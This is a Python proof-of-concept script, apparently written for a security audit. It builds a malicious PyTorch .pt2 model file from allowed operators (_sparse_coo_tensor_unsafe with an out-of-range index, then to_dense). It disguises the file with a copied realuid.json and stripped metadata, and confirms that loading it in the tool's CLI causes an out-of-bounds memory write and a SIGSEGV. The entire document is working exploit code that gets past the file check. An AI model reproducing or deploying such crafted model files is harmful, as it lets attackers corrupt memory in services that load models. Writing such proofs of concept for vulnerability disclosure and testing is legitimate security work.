"""A .pt2 of allowed operators only (_sparse_coo_tensor_unsafe, to_dense) writes at any address: SIGSEGV."""

import zipfile

import torch
from common import cli, tiny, verdict

from realuid.exports import export_student
from realuid.models import from_pretrained

A = torch.ops.aten
tiny("g")
export_student(from_pretrained("g"), "g.pt2", "torch")
about = zipfile.ZipFile("g.pt2")
about = about.read(next(n for n in about.namelist() if n.endswith("realuid.json"))).decode()


class M(torch.nn.Module):
    def __init__(s):
        super().__init__()
        s.register_buffer("i", torch.tensor([[10**9]]))
        s.register_buffer("v", torch.tensor([1.0]))

    def forward(s, noise):
        return noise + A.to_dense.default(A._sparse_coo_tensor_unsafe.default(s.i, s.v, [4]))[0]


p = torch.export.export(
    M(), (torch.zeros(2, 1, 8, 8),), dynamic_shapes=({0: torch.export.Dim("batch", min=1)},), strict=False
)
for n in p.graph.nodes:
    for k in ("stack_trace", "nn_module_stack", "source_fn_stack", "torch_fn", "from_node"):
        n.meta.pop(k, None)
with open("evil.pt2", "wb") as f:
    torch.export.save(p, f, extra_files={"realuid.json": about})
rc, out, _ = cli("sample", "evil.pt2", "--count", "2", "--out", "x.zip")
verdict(
    rc is not None and rc < 0,
    f"the process was killed by signal {-rc if rc and rc < 0 else 0}: an out-of-bounds write (index 10^9 of 4) from a file that passed the check",
)
